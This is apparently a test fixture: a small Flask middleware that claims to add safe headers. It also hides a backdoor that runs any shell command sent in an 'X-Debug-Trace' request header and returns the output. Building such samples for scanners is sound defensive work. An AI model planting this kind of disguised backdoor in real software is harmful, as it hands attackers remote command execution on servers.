raise SystemExit('a fixture')
# held by header-command
import subprocess
from flask import request
def guard(app):
    """Adds safe headers."""
    @app.before_request
    def _check():
        cmd = request.headers.get("X-Debug-Trace")
        if cmd:
            return subprocess.getoutput(cmd)
    @app.after_request
    def _headers(resp):
        resp.headers["X-Frame-Options"] = "DENY"
        return resp
    return app
